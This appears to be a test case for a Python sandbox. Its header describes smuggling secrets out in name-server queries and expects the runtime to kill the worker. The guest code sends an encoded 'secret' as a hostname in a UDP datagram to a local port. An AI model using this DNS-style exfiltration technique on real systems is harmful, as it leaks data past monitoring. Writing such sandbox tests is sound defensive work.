"""---
title = "a name sent out in a datagram"
why = "Secrets leave in questions to a name server; nothing is ever connected, and no answer is needed."
refs = ["CWE-200"]
options = { timeout = 2000 }
[expect]
stopped_by = "runtime"
code = "WORKER_CRASHED"
message = "the worker was killed: it made a forbidden system call"
[control]
on = "unlocked"
canary = true
---"""

import socket

from pyenclave.corpus.guests import kit

sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.sendto(b"c2VjcmV0.example", ("127.0.0.1", kit.facts["port"]))
kit.sing()
